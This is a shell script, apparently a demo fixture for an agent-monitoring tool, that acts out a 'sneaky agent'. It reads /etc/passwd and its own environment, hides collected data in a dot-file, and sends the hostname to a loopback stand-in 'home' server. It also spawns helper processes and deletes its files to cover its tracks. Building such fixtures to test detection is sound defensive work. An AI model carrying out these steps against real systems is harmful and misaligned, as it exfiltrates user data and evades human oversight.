#!/bin/sh
# A sneaky agent, for the demo: it reads what it should not, leaves and
# hides files, phones home, and spawns helpers to do part of the work.
# Every network attempt stays on loopback and is bounded (2 s).
set -u
work=$(mktemp -d /tmp/gh-demo.XXXXXX)

# look around: hosts, accounts, kernel, its own command line and environment
cat /etc/hosts /etc/passwd /proc/version > /dev/null
cat /proc/self/cmdline /proc/self/environ > /dev/null

# write, stash, hide
echo "collected: $(hostname)" > "$work/notes.txt"
mkdir "$work/stash"
mv "$work/notes.txt" "$work/stash/.notes"
chmod 600 "$work/stash/.notes"
ln -s "$work/stash/.notes" "$work/latest"

# helpers
echo "agent: working"
ls -la "$work" > /dev/null
sh -c "echo x > $work/from-sh.txt"

# phone home, and a helper in python that writes a file of its own. The
# "home" server and the DNS resolver are stand-ins on loopback that demo/run
# starts (demo/outside.py): GH_DEMO_OUTSIDE="ADDR TCP UDP TCP6".
/usr/bin/python3 - "$work" ${GH_DEMO_OUTSIDE:-} <<'PY'
import socket, struct, sys
work = sys.argv[1]
def attempt(family, addr, payload=b''):
    s = socket.socket(family, socket.SOCK_STREAM)
    # a blocking connect bounded by the kernel: the result is the kernel's
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack('ll', 2, 0))
    try:
        s.connect(addr)
        s.sendall(payload)
    except OSError:
        pass
    s.close()
if len(sys.argv) == 6:
    home, tcp, udp, tcp6 = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
    # what was collected goes home
    attempt(socket.AF_INET, (home, tcp), b'collected: ' + socket.gethostname().encode())
    # a port where nobody listens: refused
    probe = socket.socket()
    probe.bind(('127.0.0.1', 0))
    closed = probe.getsockname()[1]
    probe.close()
    attempt(socket.AF_INET, ('127.0.0.1', closed))
    if tcp6 != '-':
        attempt(socket.AF_INET6, ('::1', int(tcp6)))
    # a DNS query for example.com, as a resolver would send it
    query = bytes.fromhex('abcd01000001000000000000076578616d706c6503636f6d0000010001')
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(2)
    try:
        u.sendto(query, (home, udp))
        u.recvfrom(512)
    except OSError:
        pass
else:
    print('agent: no home to phone (GH_DEMO_OUTSIDE is not set)')
with open(work + '/py-output.txt', 'w') as f:
    f.write('written by a python helper\n')
PY

# cover the tracks
rm -f "$work/latest" "$work/from-sh.txt" "$work/py-output.txt"
rm -rf "$work"
echo "agent: done"
